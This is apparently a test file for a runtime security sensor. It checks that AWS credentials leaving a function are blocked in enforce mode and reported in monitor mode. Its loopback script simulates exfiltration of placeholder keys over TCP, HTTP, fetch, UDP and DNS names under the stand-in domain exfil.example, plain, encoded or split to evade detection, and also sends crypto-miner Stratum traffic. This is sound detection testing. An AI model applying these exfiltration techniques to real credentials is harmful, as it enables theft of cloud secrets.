// Credential exfiltration and miner traffic, in a real process under the sensor: the
// function's own AWS credentials leaving in socket writes, HTTP requests (http and fetch),
// UDP payloads and DNS names, plain or encoded, whole or split across writes; refused before
// a byte leaves in enforce mode, reported in monitor mode. Everything stays on loopback: the
// listeners and the DNS server are the script's own.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describe, findingsFor, REPORT, runSensor } from '../helpers.mjs';

const SECRET = 'wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY';
const AKID = 'ASIAQWERTYUIOPASDFGH';
const TOKEN = `IQoJb3JpZ2luX2VjEOT//////////wEaCXVzLWVhc3QtMSJHMEUCIQ${'Zm9v'.repeat(60)}`;
const ENV = { AWS_SECRET_ACCESS_KEY: SECRET, AWS_ACCESS_KEY_ID: AKID, AWS_SESSION_TOKEN: TOKEN };

// Servers (TCP, HTTP, UDP, DNS) on loopback, then each leak in an invocation; `got` says what
// arrived at the receiving end, `err` how the sending call failed.
const SCRIPT = `${REPORT}
const net = require('net'), http = require('http'), dgram = require('dgram'), dns = require('dns');
const api = globalThis[Symbol.for('warden.sensor')];
const SECRET = process.env.AWS_SECRET_ACCESS_KEY, AKID = process.env.AWS_ACCESS_KEY_ID, TOKEN = process.env.AWS_SESSION_TOKEN;
const received = [];
const tcp = net.createServer((s) => s.on('data', (d) => received.push(d.toString('latin1'))).on('error', () => {}));
const web = http.createServer((req, res) => { let b = ''; req.on('data', (d) => (b += d)); req.on('end', () => { received.push(req.url + JSON.stringify(req.headers) + b); res.end('ok'); }); });
const udp = dgram.createSocket('udp4');
udp.on('message', (m) => received.push(m.toString('latin1')));
const dnsServer = dgram.createSocket('udp4');
dnsServer.on('message', (m) => received.push('dns:' + m.toString('latin1')));
const listen = (srv, ...a) => new Promise((r) => srv.listen(0, '127.0.0.1', r));
const bind = (s) => new Promise((r) => s.bind(0, '127.0.0.1', r));
const tick = (ms = 80) => new Promise((r) => setTimeout(r, ms));
function send(port, chunks, opts = {}) {
  return new Promise((resolve) => {
    const s = net.connect({ port, host: opts.host || '127.0.0.1', ...(opts.host ? { lookup: (h, o, cb) => (o && o.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4)) } : {}) }, async () => {
      for (const c of chunks) { s.write(c); await tick(5); }
      s.end();
    });
    s.on('error', (e) => resolve(codeOf(e)));
    s.on('close', () => resolve('sent'));
  });
}
(async () => {
  await listen(tcp); await listen(web); await bind(udp); await bind(dnsServer);
  const P = tcp.address().port, W = web.address().port;
  const cases = {
    plain: () => send(P, ['POST /c HTTP/1.1\\r\\n\\r\\n' + SECRET]),
    base64: () => send(P, [JSON.stringify({ blob: Buffer.from('k=' + SECRET + '&t=1').toString('base64') })]),
    hex: () => send(P, ['id=' + Buffer.from(AKID).toString('hex')]),
    split: () => send(P, ['{"k":"' + SECRET.slice(0, 17), SECRET.slice(17) + '"}']),
    httpHeader: () => new Promise((r) => { const q = http.request({ port: W, host: '127.0.0.1', path: '/x', headers: { 'x-k': TOKEN } }, (res) => { res.resume(); res.on('end', () => r('sent')); }); q.on('error', (e) => r(codeOf(e))); q.end(); }),
    fetchBody: () => fetch('http://127.0.0.1:' + W + '/f', { method: 'POST', body: 'c=' + encodeURIComponent(SECRET) }).then((r) => r.text()).then(() => 'sent', (e) => codeOf(e)),
    udp: () => new Promise((r) => { const c = dgram.createSocket('udp4'); c.send(Buffer.from('leak ' + SECRET), udp.address().port, '127.0.0.1', (e) => { c.close(); r(e ? codeOf(e) : 'sent'); }); }),
    dnsName: () => { const res = new dns.promises.Resolver({ timeout: 200, tries: 1 }); res.setServers(['127.0.0.1:' + dnsServer.address().port]); res.setLocalAddress && res.setLocalAddress('127.0.0.1'); const h = Buffer.from(AKID).toString('hex'); return res.resolve4(h.slice(0, 20) + '.' + h.slice(20) + '.x.exfil.example').then(() => 'sent', (e) => codeOf(e)); },
    stratum: () => send(P, ['{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\\n']),
    // Not exfiltration: SigV4's own header positions, and an AWS endpoint
    sigv4: () => send(P, ['GET / HTTP/1.1\\r\\nAuthorization: AWS4-HMAC-SHA256 Credential=' + AKID + '/20261126/us-east-1/sts/aws4_request, Signature=ab\\r\\nx-amz-security-token: ' + TOKEN + '\\r\\n\\r\\n']),
    awsEndpoint: () => send(P, ['{"k":"' + SECRET + '"}'], { host: 'sts.us-east-1.amazonaws.com' }),
    nothing: () => send(P, ['{"user":"ada","note":"AKIA is how access keys start"}']),
  };
  const out = {};
  for (const [name, fn] of Object.entries(cases)) {
    const before = received.length;
    out[name] = await api.runInInvocation({ requestId: 'req-' + name, event: {} }, fn);
    await tick(name === 'dnsName' ? 300 : 60);
    const got = received.slice(before).join('|');
    const marker = { plain: SECRET, base64: '"blob"', hex: Buffer.from(AKID).toString('hex').slice(0, 20), split: SECRET.slice(17), httpHeader: TOKEN, fetchBody: encodeURIComponent(SECRET), udp: 'leak ', dnsName: 'dns:', stratum: 'mining.subscribe' }[name];
    out[name + ':arrived'] = marker !== undefined && got.includes(marker);
  }
  record('r', out);
  tcp.close(); web.close(); udp.close(); dnsServer.close();
})();
`;

const LEAKS = ['plain', 'base64', 'hex', 'split', 'httpHeader', 'fetchBody', 'udp', 'dnsName'];
const CLEAN = ['sigv4', 'awsEndpoint', 'nothing'];

test('credentials in outbound data: refused before they leave (enforce), reported (monitor)', async () => {
  const enf = await runSensor(SCRIPT, { mode: 'enforce', env: ENV });
  const r = enf.out.r;
  assert.ok(r, enf.stderr);
  const exfil = findingsFor(enf.findings, 'warden.rule.credential-exfiltration', 'Blocked');
  for (const name of LEAKS) {
    assert.notEqual(r[name], 'sent', `${name}: the call must fail (${describe(enf.findings)})`);
    assert.equal(r[`${name}:arrived`], false, `${name}: nothing reached the receiver`);
    const f = exfil.find((x) => x.metadata.correlation_uid === `req-${name}`);
    assert.ok(f, `${name}: ${describe(enf.findings)}`);
    assert.ok(f.unmapped.outbound.credential.name.startsWith('AWS_'), name);
    assert.ok(!JSON.stringify(f).includes(SECRET), 'a finding never carries the secret itself');
  }
  const enc = (name) =>
    exfil.find((x) => x.metadata.correlation_uid === `req-${name}`).unmapped.outbound.credential.encoding;
  assert.equal(enc('base64'), 'base64');
  assert.equal(enc('hex'), 'hex');
  assert.equal(enc('fetchBody'), 'url');
  assert.equal(enc('dnsName'), 'hex');
  for (const name of CLEAN) {
    assert.equal(r[name], 'sent', `${name} goes through`);
    assert.equal(
      enf.findings.filter((x) => x.metadata.correlation_uid === `req-${name}`).length,
      0,
      `${name}: ${describe(enf.findings)}`,
    );
  }
  assert.notEqual(r.stratum, 'sent');
  assert.ok(
    findingsFor(enf.findings, 'warden.rule.crypto-miner-traffic', 'Blocked').length === 1,
    describe(enf.findings),
  );

  const mon = await runSensor(SCRIPT, { mode: 'monitor', env: ENV });
  for (const name of [...LEAKS.filter((n) => n !== 'dnsName'), 'stratum']) {
    assert.equal(mon.out.r[name], 'sent', `monitor: ${name} goes through`);
    assert.equal(mon.out.r[`${name}:arrived`], true, `monitor: ${name} arrived`);
  }
  const detected = new Set(
    findingsFor(mon.findings, 'warden.rule.credential-exfiltration', 'Detected').map(
      (f) => f.metadata.correlation_uid,
    ),
  );
  for (const name of LEAKS) assert.ok(detected.has(`req-${name}`), `monitor: ${name} reported`);
});
